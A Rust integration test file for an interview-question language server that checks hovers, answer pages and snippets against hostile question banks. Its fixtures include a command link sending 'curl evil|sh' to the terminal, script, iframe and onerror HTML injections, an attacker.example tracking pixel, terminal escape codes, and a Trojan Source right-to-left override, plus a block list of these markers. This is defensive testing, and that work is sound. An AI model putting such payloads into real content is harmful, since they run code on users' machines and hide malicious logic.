//! Bank text is data: a bank folder from anyone (a cloned repository) cannot
//! make the editor fetch a URL, run a command or render HTML on hover or on
//! the answer page, and cannot slip invisible characters into the user's
//! code through a snippet. Through the real binary.

mod support;

use serde_json::{Value, json};
use std::path::Path;
use support::{LspClient, cursor, default_capabilities, run_cli};

/// A question that takes over the `Depends` hover, with every trick in its
/// short and full answer.
const HOSTILE_QUESTION: &str = "## Explain dependency injection in FastAPI with a practical example.

- id: di-dependency-injection
- difficulty: medium
- frameworks: fastapi
- topics: dependency-injection, testing
- keywords: fastapi.Depends, fastapi.Depends(use_cache), fastapi.Security, fastapi.FastAPI.dependency_overrides, fastapi.APIRouter(dependencies), fastapi.FastAPI(dependencies), Annotated, dependency injection, sub-dependencies

**In short:** Click [here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) <img src=x onerror=alert(1)> ![tracking pixel](https://attacker.example/track.png) then \u{1b}]0;PWNED\u{7}done.

Dependencies are declared.<script>alert(1)</script> Read [the tutorial](https://fastapi.tiangolo.com/tutorial/dependencies/) or [this][cmd].

<iframe src=\"https://attacker.example/frame\"></iframe>

[cmd]: command:workbench.action.reloadWindow
";

/// A question whose snippet hides a right-to-left override in a string
/// ("Trojan Source"): refused, like any entry with an error.
fn trojan_snippet_file() -> String {
    format!(
        "## How do you check an access level?\n\n- id: markup-trojan\n- difficulty: easy\n- frameworks: fastapi\n\n**In short:** Compare it.\n\nBody.\n\n```python snippet id=markup-trojan-check title=\"Access check\"\nfrom fastapi import FastAPI\n\napp = FastAPI()\nlevel = \"user\"\nif level != \"user{rlo}  # check admin{lri}\":\n    print(\"admin\")\n```\n",
        rlo = '\u{202E}',
        lri = '\u{2066}',
    )
}

const FORBIDDEN: [&str; 9] = [
    "command:",
    "attacker.example",
    "<img",
    "<script",
    "<iframe",
    "onerror",
    "\u{1b}",
    "\u{7}",
    "\u{202E}",
];

fn assert_clean(text: &str, what: &str) {
    for bad in FORBIDDEN {
        assert!(!text.contains(bad), "{what} contains {bad:?}:\n{text}");
    }
}

fn bank(dir: &Path) {
    std::fs::write(dir.join("hostile.md"), HOSTILE_QUESTION).unwrap();
    std::fs::write(dir.join("trojan.md"), trojan_snippet_file()).unwrap();
}

fn server(bank: &Path) -> LspClient {
    let mut client = LspClient::start();
    client.initialize_with(default_capabilities(), json!({"questionPaths": [bank]}));
    client
}

#[test]
fn hovers_drop_html_command_links_remote_images_and_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    bank(dir.path());
    let mut client = server(dir.path());
    let (text, position) =
        cursor("from fastapi import Depends\n\ndef get_user(db=Dep$0ends(get_db)):\n    pass\n");
    client.open("file:///project/app.py", "python", &text);
    let hover = client.call(
        "textDocument/hover",
        json!({"textDocument": {"uri": "file:///project/app.py"}, "position": position}),
    );
    let shown = hover["contents"]["value"].as_str().expect("a hover");
    eprintln!("hover:\n{shown}");
    // It is the hostile question's hover, with the words kept.
    assert!(shown.contains("Click here"), "{shown}");
    assert!(shown.contains("tracking pixel"), "alt text kept: {shown}");
    assert!(shown.contains("]0;PWNED"), "{shown}");
    assert!(
        shown.contains("[the tutorial](https://fastapi.tiangolo.com/tutorial/dependencies/)"),
        "web links kept: {shown}"
    );
    assert_clean(shown, "the hover");
}

#[test]
fn answer_pages_drop_them_too() {
    let dir = tempfile::tempdir().unwrap();
    bank(dir.path());
    let mut client = server(dir.path());
    let shown = client.call(
        "workspace/executeCommand",
        json!({"command": "interview.show", "arguments": [{"id": "di-dependency-injection", "open": false}]}),
    );
    let uri = shown["answerPage"].as_str().expect("an answer page");
    let page = std::fs::read_to_string(uri.trim_start_matches("file://")).unwrap();
    assert!(page.contains("Click here"), "{page}");
    assert!(
        page.contains("or this."),
        "reference link text kept: {page}"
    );
    assert_clean(&page, "the answer page");
}

#[test]
fn check_reports_an_invisible_character_in_a_snippet_where_it_is() {
    let dir = tempfile::tempdir().unwrap();
    bank(dir.path());
    let file = dir.path().join("trojan.md");
    let (code, stdout, stderr) = run_cli(&["check", file.to_str().unwrap()]);
    assert_eq!(code, 1, "{stdout}{stderr}");
    // Line 16 of the file, column 18: right after `if level != "user`.
    let expected = format!(
        "{}:16:18: error: snippet `markup-trojan-check` contains an invisible bidirectional control character (U+202E), which would reach the user's code unseen",
        file.display()
    );
    assert_eq!(stdout.trim_end(), expected);
    assert!(stderr.starts_with("0 questions, 0 snippets"), "{stderr}");
}

#[test]
fn a_refused_snippet_cannot_be_inserted_and_the_rest_of_the_bank_loads() {
    let dir = tempfile::tempdir().unwrap();
    bank(dir.path());
    let mut client = server(dir.path());
    let logs = client.log_messages(std::time::Duration::from_secs(1));
    assert!(
        logs.iter()
            .any(|l| l.contains("snippet `markup-trojan-check` contains an invisible bidirectional control character (U+202E)")),
        "{logs:#?}"
    );
    let snippets: Value = client.call(
        "workspace/executeCommand",
        json!({"command": "interview.snippets", "arguments": []}),
    );
    let ids: Vec<&str> = snippets
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap())
        .collect();
    assert!(
        ids.contains(&"fastapi-hello"),
        "the built-in snippets are there: {ids:?}"
    );
    assert!(!ids.contains(&"markup-trojan-check"), "{ids:?}");
    // Nor can it be inserted by id.
    let (text, position) = cursor("from fastapi import FastAPI\n\napp = FastAPI()\n$0\n");
    client.open("file:///project/main.py", "python", &text);
    let response = client.request(
        "workspace/executeCommand",
        json!({"command": "interview.insertSnippet", "arguments": [{"id": "markup-trojan-check", "uri": "file:///project/main.py", "position": position}]}),
    );
    assert!(response.get("error").is_some(), "{response}");
}
